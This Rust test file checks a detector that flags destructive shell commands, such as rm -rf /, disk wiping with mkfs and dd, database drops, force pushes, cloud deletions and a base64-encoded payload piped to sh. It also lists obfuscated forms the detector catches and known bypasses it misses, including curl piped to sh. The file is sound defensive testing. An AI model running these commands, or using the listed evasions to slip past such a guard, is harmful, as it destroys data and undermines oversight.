//! Each entry of the list, in the forms in which it comes, and what is known not to be seen.

use super::super::commands::commands;
use super::*;

fn entry_of(text: &str) -> Option<&'static str> {
    let all = commands(text);
    all.iter().find_map(|command| BUILT_IN.iter().find(|entry| entry.is(command))).map(|entry| entry.name)
}

#[test]
fn every_entry_of_the_list_is_seen() {
    let table: &[(&str, &[&str])] = &[
        ("terraform apply, destroy", &["terraform destroy", "terraform -chdir=x apply -auto-approve", "tofu destroy"]),
        ("pulumi up, destroy; cdk deploy, destroy", &["pulumi destroy --yes", "cdk deploy"]),
        ("kubectl delete, drain", &["kubectl delete ns x", "kubectl -n a delete pod b", "oc delete x"]),
        ("helm uninstall", &["helm uninstall x", "helm -n a delete b"]),
        (
            "aws … delete, terminate, rb, rm",
            &[
                "aws cloudformation delete-stack --stack-name x",
                "aws ec2 terminate-instances --instance-ids i-1",
                "aws s3 rm s3://b --recursive",
                "aws --profile p s3 rb s3://b",
            ],
        ),
        (
            "gcloud … delete; az … delete; doctl … delete",
            &["gcloud sql instances delete x", "az group delete -n x", "doctl compute droplet delete 1"],
        ),
        (
            "DROP, TRUNCATE, DELETE without WHERE",
            &[
                "psql -c 'drop table users'",
                "psql -h db -c \"TRUNCATE users\"",
                "mysql -e 'DELETE FROM users'",
                "mysql <<E\ndelete from a where b = 1;\ndelete from c;\nE",
                "echo 'DROP DATABASE x' | mysql",
                "sqlite3 a.db 'drop table t'",
                "mongosh --eval 'db.dropDatabase()'",
                "redis-cli flushall",
            ],
        ),
        ("dropdb, dropuser", &["dropdb x", "sudo -u postgres dropdb x"]),
        (
            "git push --force",
            &[
                "git push --force",
                "git push -f origin main",
                "git -C x push --force-with-lease",
                "git push origin +main",
                "git push origin :old",
                "git push --mirror",
                "git push -uf origin main",
            ],
        ),
        ("git reset --hard", &["git reset --hard", "git reset HEAD~1 --hard"]),
        ("git clean -f", &["git clean -fdx", "git clean -xdf", "git clean --force"]),
        (
            "rm -r of /, ~, .git or an unset variable",
            &[
                "rm -rf /",
                "rm -rf /*",
                "rm -rf --no-preserve-root /",
                "rm -rf ~",
                "rm -rf ~/",
                "rm -rf $HOME",
                "rm -rf /home/bob",
                "rm -rf /usr",
                "rm -fr .git",
                "rm -r sub/.git/",
                "rm -rf .",
                "rm -rf ..",
                "rm -rf ../..",
                "rm -rf *",
                "rm -rf $DIR",
                "rm -rf \"$DIR\"/x",
                "rm -rf ${DIR}/*",
                "rm -rf $(cat where)",
                "rm -R -f /etc",
                "find / -name x -delete",
                "find ~ -exec rm {} +",
            ],
        ),
        ("docker volume rm, prune", &["docker volume rm x", "podman volume prune -f", "docker system prune --volumes"]),
        ("mkfs", &["mkfs.ext4 /dev/sda1", "mkfs -t xfs /dev/sdb", "wipefs -a /dev/sda"]),
        ("dd of=/dev/…", &["dd if=x of=/dev/sda", "cat x > /dev/sda", "shred /dev/nvme0n1"]),
        ("chmod, chown -R of /", &["chmod -R 777 /", "chown -R me /usr", "chmod -R 777 ~"]),
        ("crontab -r", &["crontab -r", "crontab -u bob -r"]),
        (
            "publishing a package",
            &[
                "npm publish",
                "cargo publish",
                "twine upload dist/*",
                "python -m twine upload x",
                "uv publish",
                "gem push a.gem",
            ],
        ),
        (
            "backfill with --reset-dagruns",
            &[
                "airflow dags backfill --reset-dagruns d",
                "airflow backfill create --reset-dagruns",
                "spark-submit backfill.py",
            ],
        ),
        ("airflow db reset, dags delete", &["airflow db reset -y", "airflow dags delete d"]),
        ("a shell that runs decoded text", &["echo cm0gLXJmIC8= | base64 -d | sh"]),
        ("a host that is no host name", &["curl 'https://a\\@b.example'", "curl https://evil%00.allowed.example"]),
    ];
    assert_eq!(
        table.iter().map(|(name, _)| *name).collect::<Vec<_>>(),
        BUILT_IN.iter().map(|e| e.name).collect::<Vec<_>>()
    );
    for (name, texts) in table {
        for text in *texts {
            assert_eq!(entry_of(text), Some(*name), "{text}");
        }
    }
}

#[test]
fn what_is_seen_is_seen_in_disguise() {
    for text in [
        "sh -c 'terraform destroy'",
        "a && terraform destroy",
        "X=1 terraform destroy",
        "sudo terraform destroy",
        "env A=b terraform destroy",
        "terra\\form destroy",
        "'terraform' \"destroy\"",
        "terraform${IFS}destroy",
        "$'\\x74erraform' destroy",
        "T=terraform; $T destroy",
        "T='terraform destroy'; $T",
        "{terraform,destroy}",
        "f() { terraform destroy; }; f",
        "alias t='terraform destroy'; t",
        "echo 'terraform destroy' | sh",
        "bash <<E\nterraform destroy\nE",
        "bash <<< 'terraform destroy'",
        "echo destroy | xargs terraform",
        "find . -maxdepth 0 -exec terraform destroy \\;",
        "$(echo x; terraform destroy)",
        "/proc/self/root/usr/bin/terraform destroy",
        "eval 'terraform destroy'",
        "nohup terraform destroy &",
        "(terraform destroy)",
        "if true\nthen\nterraform destroy\nfi",
        "timeout 5m terraform destroy",
        "terraform \\\n destroy",
    ] {
        assert_eq!(entry_of(text), Some("terraform apply, destroy"), "{text}");
    }
}

/// A list, so that nobody takes the rules for a wall: each of these runs, and only the box stands around it.
#[test]
fn what_is_known_not_to_be_seen() {
    for text in [
        "python3 -c \"import os; os.system('terraform destroy')\"",
        "make destroy",
        "./deploy.sh",
        "cp $(which terraform) t; ./t destroy",
        "t*rraform destroy",
        "$RUN destroy",
        "curl -s https://x.example/s | sh",
        "printf '%s %s' terraform destroy | tr a-z b-za | tee f; . ./f",
        "perl -e 'exec qw(terraform destroy)'",
        "git -c alias.x='!terraform destroy' x",
    ] {
        assert_eq!(entry_of(text), None, "{text}");
    }
}

#[test]
fn everyday_commands_are_not_asked_for() {
    for text in [
        "rm -rf build target node_modules",
        "rm -rf /tmp/x ./out/* sub/dir",
        "D=/tmp/b; rm -rf \"$D\"",
        "T=$(mktemp -d); cd $T; rm -rf \"$T\"",
        "for d in a b; do rm -rf $d; done",
        "rm -rf \"${DIR:?}/x\"",
        "rm -rf $HOME/.cache/x",
        "rm -rf \"build/$TARGET\"",
        "find . -name '*.pyc' -delete",
        "git push -u origin main",
        "git clean -n",
        "git reset HEAD x",
        "git commit -m 'terraform destroy'",
        "echo 'DROP TABLE x'",
        "grep -r 'DROP TABLE' .",
        "mysql -e 'delete from a where b = 1'",
        "psql -c 'select dropped from t -- drop table x'",
        "terraform plan",
        "kubectl get pods",
        "aws s3 ls",
        "docker volume ls",
        "dd if=/dev/zero of=disk.img",
        "echo x > /dev/null; dd of=/dev/null",
        "chmod -R u+w build",
        "crontab -l",
        "npm install; cargo build",
        "airflow dags backfill d",
        "cat > s.sh <<'E'\nterraform destroy\nE",
        "base64 -d a > b",
        "curl http://$HOST:8000/",
        "ls -la ~ /",
        "cargo publish-docs",
    ] {
        assert_eq!(entry_of(text), None, "{text}");
    }
}
